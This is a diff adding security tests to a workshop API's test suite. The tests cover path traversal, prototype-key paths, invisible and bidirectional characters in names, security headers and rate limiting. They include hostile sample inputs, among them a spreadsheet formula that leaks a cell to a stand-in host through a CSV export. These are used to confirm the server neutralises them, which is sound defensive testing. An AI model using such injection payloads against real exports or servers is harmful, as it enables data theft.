@@ -309,10 +309,66 @@ describe('workshop API: board, freeze and export', () => {
     const workshop = await newWorkshop()
     expect((await call('GET', `/board/${workshop.id}`)).text).toContain('id="ranking"')
     expect((await call('GET', '/assets/chart.umd.min.js')).text).toMatch(/Chart/)
-    for (const path of ['/assets/..%2f..%2fscenarios%2fcatalog-sold-out-stock%2ffix.patch', '/scenarios/catalog-sold-out-stock/fix.patch', '/assets/fix.patch']) {
+    for (const path of ['/assets/..%2f..%2fscenarios%2fcatalog-sold-out-stock%2ffix.patch', '/scenarios/catalog-sold-out-stock/fix.patch', '/assets/fix.patch', '/assets/__proto__', '/assets/constructor']) {
       expect((await call('GET', path)).status).toBe(404)
     }
     const catalog = await call<{ scenarios: Record<string, unknown>[] }>('GET', '/api/scenarios')
     expect(Object.keys(catalog.body.scenarios[0] ?? {}).sort()).toEqual(['difficulty', 'id', 'service', 'timeLimitMinutes', 'title'])
   })
 })
+
+describe('workshop API: hostile input', () => {
+  it('keeps only the visible part of a name, and refuses a name with nothing visible', async () => {
+    const workshop = await newWorkshop()
+    const joined = await call<{ participant: { name: string } }>('POST', '/api/join', { body: { code: workshop.joinCode, name: '  \u202eada\u200b\u0007 \t lovelace\u2066 ' } })
+    expect(joined.status).toBe(201)
+    expect(joined.body.participant.name).toBe('ada lovelace')
+    const invisible = await call<{ error: string }>('POST', '/api/join', { body: { code: workshop.joinCode, name: '\u200b\u202e\u200d' } })
+    expect(invisible.status).toBe(400)
+    expect(invisible.body.error).toMatch(/name: needs at least one visible character/)
+  })
+
+  it('writes a name that looks like a formula into the CSV as text', async () => {
+    const workshop = await newWorkshop()
+    await act(workshop.id, 'start')
+    const mallory = await join(workshop.joinCode, '=HYPERLINK("http://x.example/?"&A1)')
+    await db.submission.create({
+      data: { workshopId: workshop.id, round: 1, participantId: mallory.participant.id, entrant: mallory.participant.id, scenario: SCENARIO, diff: 'x', elapsedMs: 60_000, status: 'failed', gradedAt: new Date() }
+    })
+    const csv = await call('GET', `/api/workshops/${workshop.id}/export.csv`, { token: facilitator })
+    expect(csv.text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`)
+    expect(csv.text).not.toMatch(/[,\n]=HYPERLINK/)
+  })
+
+  it('serves no hints once the workshop is over', async () => {
+    const workshop = await newWorkshop()
+    const ada = await join(workshop.joinCode, 'ada')
+    await act(workshop.id, 'start')
+    await act(workshop.id, 'end')
+    const hint = await call<{ error: string }>('POST', '/api/hints', { token: ada.token, body: { scenario: SCENARIO } })
+    expect(hint.status).toBe(409)
+    expect(hint.body.error).toMatch(/is over, and so are its hints/)
+  })
+
+  it('sends security headers and a content security policy that keeps to the server', async () => {
+    const page = await call('GET', '/facilitator')
+    expect(page.headers['content-security-policy']).toMatch(/default-src 'self'/)
+    expect(page.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/)
+    expect(page.headers['content-security-policy']).not.toMatch(/upgrade-insecure-requests/)
+    expect(page.headers['x-content-type-options']).toBe('nosniff')
+    expect(page.headers['strict-transport-security']).toBeUndefined()
+  })
+
+  it('makes an address that keeps guessing join codes and tokens wait, and nobody else', async () => {
+    const workshop = await newWorkshop()
+    const from = (remoteAddress: string, url: string, payload: object, token?: string) =>
+      app.inject({ method: 'POST', url, remoteAddress, payload, headers: token ? { authorization: `Bearer ${token}` } : {} })
+    for (let guess = 0; guess < 25; guess++) expect((await from('10.9.8.7', '/api/join', { code: `WRONG${guess}`, name: `g${guess}` })).statusCode).toBe(404)
+    for (let guess = 0; guess < 5; guess++) expect((await from('10.9.8.7', '/api/hints', { scenario: SCENARIO }, `trainee_${guess}`)).statusCode).toBe(401)
+    const blocked = await from('10.9.8.7', '/api/join', { code: workshop.joinCode, name: 'eve' })
+    expect(blocked.statusCode).toBe(429)
+    expect(Number(blocked.headers['retry-after'])).toBeGreaterThan(0)
+    expect((await from('10.9.8.8', '/api/join', { code: workshop.joinCode, name: 'neighbour' })).statusCode).toBe(201)
+  })
+})
+
